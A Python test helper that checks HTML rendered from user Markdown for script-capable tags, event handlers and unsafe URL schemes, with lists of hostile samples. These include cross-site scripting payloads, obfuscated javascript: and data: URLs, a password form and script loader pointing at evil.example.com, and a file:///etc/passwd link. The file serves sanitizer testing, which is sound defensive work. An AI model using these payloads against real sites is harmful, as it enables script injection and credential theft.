"""Checks on HTML pages made from user text: what could run a script, what the reader sees.

Shared by the Markdown tests and the TechDocs build tests, with the hostile samples both
feed through.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

# What the build itself writes: anything else came from the user's text.
BUILD_TAGS = {
    "a", "abbr", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
    "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "input", "ins", "label", "li",
    "mark", "ol", "p", "pre", "span", "strong", "sub", "summary", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCRIPT_TAGS = {"script", "iframe", "style", "object", "embed", "form", "svg", "base", "meta"}


def url_scheme(value: str) -> str | None:
    """The scheme a browser reads in an attribute's (already decoded) URL, if any.

    As the URL standard parses it: C0 controls and spaces around it dropped, tabs and
    newlines anywhere, the scheme's letters in any case.
    """
    value = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", value)
    return m.group(1).lower() if m else None


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.append(("!--", []))

    def handle_pi(self, data: str) -> None:
        self.elements.append(("?", []))

    def unknown_decl(self, data: str) -> None:
        self.elements.append(("!", []))


def parse(page: str) -> _Elements:
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser


def unsafe_markup(page: str, allowed_tags: set[str] | None = None) -> list[str]:
    """What in ``page`` (HTML) could run a script or came in as the user's own HTML."""
    problems = []
    for tag, attrs in parse(page).elements:
        if tag in SCRIPT_TAGS or (allowed_tags is not None and tag not in allowed_tags):
            problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=...>")
            elif name in URL_ATTRIBUTES and url_scheme(value or "") not in (None, *SAFE_SCHEMES):
                problems.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and not re.fullmatch(
                r"text-align: (left|right|center);", value or ""
            ):
                problems.append(f"<{tag} style={value!r}>")  # only tables' alignment
    return problems


def visible_text(page: str) -> str:
    return " ".join("".join(parse(page).text).split())


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example.com/"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example.com/"><input name="password"></form>',
    "<svg onload=alert(1)>",
    "<!-- a hidden comment -->",
    "<?php echo 1; ?>",
    "<![CDATA[ data ]]>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example.com/x.js",
    "<details open ontoggle=alert(1)>",
    '<div markdown="1">inside</div>',
    "</p><p onclick=alert(1)>",
]

SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\nscript:alert(1)",
    "`javascript`:alert(1)",
    "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]
